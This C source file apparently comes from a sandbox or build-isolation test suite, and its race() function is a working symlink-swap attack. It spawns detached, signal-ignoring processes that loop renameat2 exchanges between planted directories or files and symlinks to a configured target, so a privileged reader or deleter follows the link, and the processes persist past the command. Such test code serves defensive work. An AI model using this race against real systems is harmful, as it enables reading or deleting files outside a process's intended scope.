/* The two races: processes that outlive the command and exchange what the node is about to read, or to remove, with
 * links. */
#include "attack.h"

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

enum { EXCHANGE = 2 };

static void make_file(const char *path, const char *text)
{
    int fd = open(path, O_CREAT | O_TRUNC | O_WRONLY | O_CLOEXEC, 0644);
    if (fd < 0 || write(fd, text, strlen(text)) < 0)
        perror(path);
    close(fd);
}

/* A process of a session of its own, without descriptors, that nothing but the end of its namespace ends. */
static void leave_exchanging(const char *one, const char *other, int begun)
{
    pid_t child = fork();
    if (child == 0) {
        if (fork() != 0)
            _exit(0);
        setsid();
        for (int sent = 1; sent < SIGRTMIN; sent++)
            signal(sent, SIG_IGN);
        syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, EXCHANGE);
        if (write(begun, "x", 1) != 1)
            _exit(1);
        for (int fd = 0; fd < 16; fd++)
            close(fd);
        for (;;)
            syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, EXCHANGE);
    }
    waitpid(child, NULL, 0);
}

void race(void)
{
    const char *target = setting("target"), *leaf = setting("leaf");
    char path[512];
    int begun[2];
    static const char *const directories[] = {"/w", "/v", "/tmp"};
    if (pipe(begun) != 0)
        exit(2);
    for (int i = 0; i < 3; i++) {
        char inside[64], link[64], file[64], file_link[64];
        snprintf(inside, sizeof inside, "%s/d", directories[i]);
        snprintf(link, sizeof link, "%s/l", directories[i]);
        snprintf(file, sizeof file, "%s/x.o", directories[i]);
        snprintf(file_link, sizeof file_link, "%s/y", directories[i]);
        const char *const planned[] = {inside, link, file, file_link};
        for (int k = 0; k < 4; k++)
            unlink(planned[k]);
        mkdir(inside, 0755);
        snprintf(path, sizeof path, "%s/%s", inside, leaf);
        make_file(path, "INSIDE");
        make_file(file, "INSIDE");
        snprintf(path, sizeof path, "%s/%s", target, leaf);
        if (symlink(target, link) != 0 || symlink(path, file_link) != 0)
            perror(link);
        leave_exchanging(inside, link, begun[1]);
        leave_exchanging(file, file_link, begun[1]);
    }
    snprintf(path, sizeof path, "%s/%s", target, leaf);
    if (symlink(path, "/.floe/link") != 0)
        perror("/.floe/link");
    leave_exchanging("/.floe/status", "/.floe/link", begun[1]);
    char byte;
    for (int i = 0; i < 7; i++)
        if (read(begun[0], &byte, 1) != 1)
            exit(2);
    make_file("/w/raced", "raced");
    if (strcmp(setting("end"), "stay") == 0)
        for (;;)
            pause();
}
